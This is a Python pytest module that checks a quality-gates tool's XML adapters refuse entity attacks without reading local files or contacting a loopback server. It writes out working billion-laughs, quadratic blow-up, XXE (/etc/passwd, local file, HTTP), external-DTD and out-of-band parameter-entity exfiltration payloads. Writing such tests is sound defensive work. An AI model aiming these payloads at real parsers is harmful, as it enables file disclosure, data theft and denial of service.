"""XML attacks against every XML-reading adapter: refused quickly, nothing read or fetched.

Billion laughs, quadratic blow-up, external entities (a local file, a loopback URL),
parameter entities and external DTDs. The entity attacks must end in an AdapterError that
names the file and says entities are refused; an external DTD (every JaCoCo report has one)
may be read, but is never fetched. A loopback server records any request: it must get none.
"""

from __future__ import annotations

import gzip
import re
import resource
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from qualitygates.errors import AdapterError
from qualitygates.model import Status
from tests.fuzz.test_fuzz_adapters import adapter_class, assert_sane, engine_status
from tests.helpers import DATA, collect
from tests.servers import FakeServer, Reply

CANARY = "QG-CANARY-7f3a"  # the content of the local file an entity points at
PASSWD = "root:x:0:0"


@dataclass(frozen=True)
class XmlTarget:
    """An adapter reading XML: the root it expects and the options that make it read it."""

    id: str
    adapter: str
    file_name: str
    root: str
    options: tuple[tuple[str, Any], ...] = ()


XML_TARGETS = (
    XmlTarget("cobertura", "coverage", "coverage.xml", "coverage", (("format", "cobertura"),)),
    XmlTarget("cobertura-auto", "coverage", "coverage.xml", "coverage"),
    XmlTarget("jacoco", "coverage", "jacoco.xml", "report", (("format", "jacoco"),)),
    XmlTarget("junit", "junit", "junit.xml", "testsuites"),
    XmlTarget("zap", "zap", "zap.xml", "OWASPZAPReport"),
    XmlTarget("dependency_check", "dependency_check", "dc.xml", "analysis"),
    XmlTarget("lizard", "complexity", "lizard.xml", "cppncss", (("format", "lizard-xml"),)),
    XmlTarget("lizard-auto", "complexity", "lizard.xml", "cppncss"),
    XmlTarget("evidence", "evidence", "drill.xml", "testsuite", (("format", "junit"),)),
    XmlTarget("evidence-auto", "evidence", "drill.xml", "testsuite"),
)


def billion_laughs(root: str, _url: str, _secret: Path) -> str:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return f'<!DOCTYPE {root} [{"".join(levels)}]>\n<{root} name="&lol9;">&lol9;</{root}>'


def quadratic(root: str, _url: str, _secret: Path) -> str:
    refs = "&big;" * 20_000  # 20 000 x 100 KB = 2 GB if expanded
    return (
        f'<!DOCTYPE {root} [<!ENTITY big "{"x" * 100_000}">]>\n'
        f'<{root} name="{refs}">{refs}</{root}>'
    )


def xxe_passwd(root: str, _url: str, _secret: Path) -> str:
    return (
        f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        f"<{root} name='x'>&xxe;</{root}>"
    )


def xxe_local_file(root: str, _url: str, secret: Path) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>\n<{root}>&xxe;</{root}>'


def xxe_http(root: str, url: str, _secret: Path) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{url}/xxe">]>\n<{root}>&xxe;</{root}>'


def parameter_entity(root: str, url: str, _secret: Path) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY % remote SYSTEM "{url}/pe.dtd"> %remote;]>\n<{root}/>'


def parameter_entity_oob(root: str, url: str, secret: Path) -> str:
    """The out-of-band exfiltration pattern: read a file, send it to a URL."""
    return (
        f'<!DOCTYPE {root} [<!ENTITY % file SYSTEM "{secret.as_uri()}">'
        f"<!ENTITY % send \"<!ENTITY &#x25; leak SYSTEM '{url}/leak?%file;'>\"> %send; %leak;]>\n"
        f"<{root}/>"
    )


def unparsed_entity(root: str, url: str, _secret: Path) -> str:
    return (
        f'<!DOCTYPE {root} [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "{url}/u" NDATA n>]>\n'
        f"<{root}/>"
    )


ENTITY_ATTACKS = {
    "billion-laughs": billion_laughs,
    "quadratic-blowup": quadratic,
    "xxe-etc-passwd": xxe_passwd,
    "xxe-local-file": xxe_local_file,
    "xxe-http": xxe_http,
    "parameter-entity": parameter_entity,
    "parameter-entity-oob": parameter_entity_oob,
    "unparsed-entity": unparsed_entity,
}


@pytest.fixture(scope="module")
def server() -> Iterator[FakeServer]:
    """A loopback server that would serve every payload an attack asks for."""
    payload = Reply(200, b'<!ENTITY leak "' + CANARY.encode() + b'">', {"Content-Type": "text/xml"})
    routes = dict.fromkeys(("/xxe", "/pe.dtd", "/evil.dtd", "/u", "/leak"), payload)
    with FakeServer(routes) as fake:
        yield fake


@pytest.fixture(scope="module")
def secret(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("secret") / "secret.txt"
    path.write_text(CANARY)
    return path


def attack(target: XmlTarget, path: Path) -> tuple[AdapterError | None, float, int]:
    """Collect `path`; the error (if any), the seconds taken and the peak memory growth (KiB)."""
    cls = adapter_class(target.adapter)
    options = {o.name: o.default for o in cls.options if not o.required}
    options.update(dict(target.options))
    options["path"] = str(path) if target.adapter == "evidence" else [str(path)]
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    try:
        collection = collect(cls, base_dir=path.parent, **options)
    except AdapterError as exc:
        error: AdapterError | None = exc
    else:
        error = None
        assert_sane(collection.metrics, target.id)
        text = repr(collection)
        assert CANARY not in text and PASSWD not in text, text[:500]
    elapsed = time.monotonic() - started
    return error, elapsed, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak


def write(path: Path, document: str, encoding: str = "utf-8", zipped: bool = False) -> Path:
    data = f'<?xml version="1.0" encoding="{encoding}"?>\n{document}'.encode(encoding)
    path.write_bytes(gzip.compress(data) if zipped else data)
    return path


@pytest.mark.parametrize("target", XML_TARGETS, ids=[t.id for t in XML_TARGETS])
@pytest.mark.parametrize("name", sorted(ENTITY_ATTACKS))
def test_entity_attack_is_refused(
    target: XmlTarget, name: str, tmp_path: Path, server: FakeServer, secret: Path
) -> None:
    before = len(server.requests)
    document = ENTITY_ATTACKS[name](target.root, server.url, secret)
    path = write(tmp_path / target.file_name, document)
    error, elapsed, grown_kib = attack(target, path)
    assert error is not None, f"{name} was read by {target.id}"
    message = str(error)
    assert str(path) in message
    assert "entit" in message, message  # says why: entities are refused
    assert CANARY not in message and PASSWD not in message
    assert len(server.requests) == before, server.requests
    assert elapsed < 5, f"{name} took {elapsed:.1f} s"
    assert grown_kib < 200 * 1024, f"{name} grew memory by {grown_kib // 1024} MiB"


@pytest.mark.parametrize("target", XML_TARGETS, ids=[t.id for t in XML_TARGETS])
@pytest.mark.parametrize("variant", ["utf-16", "gzip"])
def test_entity_attack_is_refused_in_utf16_and_gzip(
    target: XmlTarget, variant: str, tmp_path: Path, server: FakeServer, secret: Path
) -> None:
    before = len(server.requests)
    document = xxe_local_file(target.root, server.url, secret)
    encoding = "utf-16" if variant == "utf-16" else "utf-8"
    path = write(tmp_path / target.file_name, document, encoding, zipped=variant == "gzip")
    error, _, _ = attack(target, path)
    assert error is not None and str(path) in str(error)
    assert "entit" in str(error) and CANARY not in str(error)
    assert len(server.requests) == before


# --- UTF-16 ------------------------------------------------------------------------------

UTF16_SEEDS = (
    ("junit", DATA / "junit" / "pytest-xunit1.xml", {}),
    ("coverage", DATA / "coverage" / "cobertura.xml", {}),
    ("coverage", DATA / "coverage" / "jacoco.xml", {}),
    ("zap", DATA / "zap" / "two-sites.xml", {}),
    ("dependency_check", DATA / "dependency_check" / "report.xml", {}),
    ("complexity", DATA / "complexity" / "lizard.xml", {}),
    ("evidence", DATA / "evidence" / "restore-pass.xml", {}),
)


def read_numbers(adapter: str, path: Path) -> dict[str, Any]:
    cls = adapter_class(adapter)
    options = {o.name: o.default for o in cls.options if not o.required}
    options["path"] = str(path) if adapter == "evidence" else [str(path)]
    collection = collect(cls, base_dir=path.parent, **options)
    numbers = {k: m.value for k, m in collection.metrics.items()}
    numbers.update({k: m.value for k, m in cls().count_findings(collection.findings).items()})
    return numbers


EXTERNAL_DTDS = {
    "system": '<!DOCTYPE {root} SYSTEM "{url}/evil.dtd">',
    "public": '<!DOCTYPE {root} PUBLIC "-//EVIL//DTD X//EN" "{url}/evil.dtd">',
    "file": '<!DOCTYPE {root} SYSTEM "{secret_uri}">',
}


def with_doctype(seed: Path, doctype: str, body_text: str = "") -> bytes:
    """`seed` with `doctype` (in place of its own) and `body_text` inside its root element."""
    text = re.sub(r"<!DOCTYPE[^>]*>", "", seed.read_text(encoding="utf-8"))
    declaration = re.match(r"<\?xml[^>]*\?>", text)
    head = declaration.group(0) if declaration else ""
    rest = text[len(head) :]
    root = re.search(r"<([A-Za-z][\w:.-]*)\b[^>]*?(?<!/)>", rest)
    assert root is not None
    if body_text:
        rest = rest[: root.end()] + body_text + rest[root.end() :]
    return f"{head}\n{doctype.replace('{root}', root.group(1))}{rest}".encode()


@pytest.mark.parametrize(
    ("adapter", "seed", "extra"), UTF16_SEEDS, ids=[f"{a}-{s.name}" for a, s, _ in UTF16_SEEDS]
)
@pytest.mark.parametrize("kind", sorted(EXTERNAL_DTDS))
def test_external_dtd_is_never_fetched(
    adapter: str,
    seed: Path,
    extra: dict[str, Any],
    kind: str,
    tmp_path: Path,
    server: FakeServer,
    secret: Path,
) -> None:
    """A DOCTYPE naming a DTD (every JaCoCo report has one) is read as if absent, unfetched."""
    before = len(server.requests)
    doctype = EXTERNAL_DTDS[kind].replace("{url}", server.url)
    path = tmp_path / seed.name
    path.write_bytes(with_doctype(seed, doctype.replace("{secret_uri}", secret.as_uri())))
    started = time.monotonic()
    assert read_numbers(adapter, path) == read_numbers(adapter, seed)
    assert time.monotonic() - started < 5
    assert len(server.requests) == before, server.requests


@pytest.mark.parametrize(
    ("adapter", "seed", "extra"), UTF16_SEEDS, ids=[f"{a}-{s.name}" for a, s, _ in UTF16_SEEDS]
)
def test_entity_of_an_unread_dtd_is_refused(
    adapter: str, seed: Path, extra: dict[str, Any], tmp_path: Path, server: FakeServer
) -> None:
    """expat skips `&leak;` silently when a DTD it did not read might define it: refused."""
    before = len(server.requests)
    doctype = EXTERNAL_DTDS["system"].replace("{url}", server.url)
    path = tmp_path / seed.name
    path.write_bytes(with_doctype(seed, doctype, "&leak;"))
    with pytest.raises(AdapterError) as caught:
        read_numbers(adapter, path)
    assert str(path) in str(caught.value) and "entity" in str(caught.value)
    assert len(server.requests) == before


def test_xinclude_is_not_processed(tmp_path: Path, secret: Path) -> None:
    """XInclude is just an element to expat: nothing is included."""
    document = (
        '<testsuite name="s" tests="1" xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<testcase name="t"><system-out><xi:include href="{secret.as_uri()}" parse="text"/>'
        "</system-out></testcase></testsuite>"
    )
    path = write(tmp_path / "junit.xml", document)
    error, _, _ = attack(XML_TARGETS[3], path)
    assert error is None


def as_utf16(data: bytes, encoding: str, fix_declaration: bool) -> bytes:
    text = data.decode("utf-8")
    if fix_declaration:
        text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
        text = text.replace('encoding="utf-8"', 'encoding="UTF-16"')
    return ("\ufeff" + text).encode(encoding)


@pytest.mark.parametrize(
    ("adapter", "seed", "extra"), UTF16_SEEDS, ids=[f"{a}-{s.name}" for a, s, _ in UTF16_SEEDS]
)
@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_xml_with_bom_reads_the_same(
    adapter: str, seed: Path, extra: dict[str, Any], encoding: str, tmp_path: Path
) -> None:
    """expat detects UTF-16 from the BOM; the numbers equal those of the UTF-8 original."""
    expected = read_numbers(adapter, seed)
    path = tmp_path / seed.name
    path.write_bytes(as_utf16(seed.read_bytes(), encoding, fix_declaration=True))
    assert read_numbers(adapter, path) == expected


@pytest.mark.parametrize(
    ("adapter", "seed", "extra"), UTF16_SEEDS, ids=[f"{a}-{s.name}" for a, s, _ in UTF16_SEEDS]
)
def test_utf16_xml_declaring_utf8_reads_or_errors_clearly(
    adapter: str, seed: Path, extra: dict[str, Any], tmp_path: Path
) -> None:
    """A BOM that contradicts `encoding="UTF-8"`: expat refuses it, naming the file."""
    data = seed.read_bytes()
    path = tmp_path / seed.name
    path.write_bytes(as_utf16(data, "utf-16-le", fix_declaration=False))
    if b"encoding=" not in data[:100]:
        assert read_numbers(adapter, path) == read_numbers(adapter, seed)
        return
    with pytest.raises(AdapterError) as caught:
        read_numbers(adapter, path)
    assert str(path) in str(caught.value)
    assert "encoding" in str(caught.value)


def test_engine_reports_an_entity_attack_as_error(tmp_path: Path, secret: Path) -> None:
    write(tmp_path / "junit.xml", xxe_local_file("testsuites", "http://127.0.0.1:9", secret))
    status, error = engine_status(tmp_path, "junit", "junit.xml", "failures <= 1000")
    assert status is Status.ERROR
    assert "entit" in error and CANARY not in error
